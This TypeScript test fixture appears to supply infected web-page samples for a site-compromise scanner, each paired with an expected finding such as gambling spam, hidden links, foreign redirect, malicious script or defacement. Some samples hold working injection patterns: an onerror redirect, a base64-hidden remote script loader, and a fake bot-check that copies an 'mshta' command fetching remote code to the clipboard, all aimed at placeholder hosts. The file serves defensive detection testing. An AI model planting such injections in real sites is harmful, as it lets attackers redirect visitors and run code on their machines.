import { officePage, officeSite } from '../office.ts'
import type { InfectedSample } from '../sample.ts'

const base64 = (text: string) => Buffer.from(text).toString('base64')
const shown = (id: string, parts: Parameters<typeof officePage>[0], expected: string): InfectedSample => ({
  id,
  before: officeSite(),
  accepted: true,
  site: officeSite(officePage(parts)),
  expected: [expected],
})
const AWAY = 'https://offer.shop-sample.example/'

/** Infections thought of after the rules were mended for the second set. */
export const LATE_INFECTED: readonly InfectedSample[] = [
  shown(
    'dashes-between-letters',
    { main: `<p><a href="${AWAY}">ห-ว-ย-อ-อ-น-ไ-ล-น์ บาทละ 950</a></p>` },
    'gambling-spam critical',
  ),
  shown(
    'lottery-house',
    { main: `<p>ยี่กี หวยลาว หวยฮานอย จ่ายสูง บาทละ 1000 <a href="${AWAY}">สมัครสมาชิกรับเครดิตฟรี</a></p>` },
    'gambling-spam critical',
  ),
  shown(
    'brand-alone',
    { after: `<a href="${AWAY}ref">ufabet888</a> <a href="${AWAY}pg">pgslot เว็บตรง</a>` },
    'gambling-spam critical',
  ),
  shown('streaming-of-films', { main: `<p><a href="${AWAY}">ดูหนังโป๊ คลิปหลุดนักศึกษา</a></p>` }, 'gambling-spam critical'),
  shown(
    'loan-by-telephone',
    { main: '<p>เงินด่วนรายวัน ร้อยละ 5 ปล่อยกู้ทั่วประเทศ ไม่ต้องมีคนค้ำ ไม่เช็คบูโร โทร 08x-xxx-xxxx</p>' },
    'gambling-spam critical',
  ),
  shown(
    'links-in-a-box-without-height',
    {
      after: `<div style="height:1px;overflow:hidden">${['a', 'b', 'c', 'd'].map((n) => `<a href="https://seo-${n}.example/">essay ${n}</a>`).join('')}</div>`,
    },
    'hidden-links critical',
  ),
  shown(
    'links-behind-everything',
    {
      after: `<div style="position:absolute;z-index:-999;opacity:0.01">${['a', 'b', 'c', 'd', 'e', 'f'].map((n) => `<a href="https://seo-${n}.example/">essay ${n}</a>`).join('')}</div>`,
    },
    'hidden-links warning',
  ),
  shown(
    'jump-by-a-picture',
    { after: `<img src="x" onerror="window.location.href='https://go.win-sample.example/'">` },
    'foreign-redirect critical',
  ),
  shown(
    'script-by-attribute',
    {
      after: `<script>var d=document,s=d.createElement('script');s.setAttribute('src',atob('${base64('https://cdn.stat-sample.example/a.js')}'));d.body.appendChild(s)</script>`,
    },
    'malicious-script critical',
  ),
  shown(
    'data-address',
    {
      after: `<script src="data:text/javascript;base64,${base64("document.location='https://go.win-sample.example/'")}"></script>`,
    },
    'foreign-redirect critical',
  ),
  shown(
    'false-update',
    {
      main: '<p>ยืนยันว่าคุณไม่ใช่บอท: กดปุ่ม Windows + R แล้วกด Ctrl + V จากนั้นกด Enter</p>',
      after:
        '<script>function c(){navigator.clipboard.writeText("mshta https://fix.stat-sample.example/x")}c()</script>',
    },
    'malicious-script critical',
  ),
  shown('title-alone', { title: 'สล็อตออนไลน์ เว็บตรง แตกง่าย 2026' }, 'gambling-spam critical'),
  {
    id: 'page-of-doorways-in-english',
    before: officeSite(),
    accepted: true,
    looks: 3,
    site: officeSite(officePage({ after: '<a href="/best-casino-bonus/">.</a>' }), (path) =>
      path === '/best-casino-bonus/'
        ? `<html lang="en"><title>Best Online Casino Bonus 2026</title><body>${'<p>Play live casino games with a no deposit bonus and free spins at the best online casino.</p>'.repeat(4)}</body></html>`
        : undefined,
    ),
    expected: ['gambling-spam critical'],
  },
  {
    id: 'suspended-by-a-control-panel',
    site: officeSite(
      '<html><head><title>Account Suspended</title></head><body><p>This Account has been suspended.</p><p>Contact your hosting provider for more information.</p></body></html>',
    ),
    expected: ['suspended critical'],
  },
  {
    id: 'a-flag-and-a-song',
    before: officeSite(),
    accepted: true,
    site: officeSite(
      '<html><head><title>Free Sample!</title></head><body style="background:#000;color:red"><center><h1>Greetz from Sample Cyber Army</h1><p>Dear admin, your site was hacked. Expect us.</p><img src="flag.png"></center></body></html>',
    ),
    expected: ['defaced critical'],
  },
]
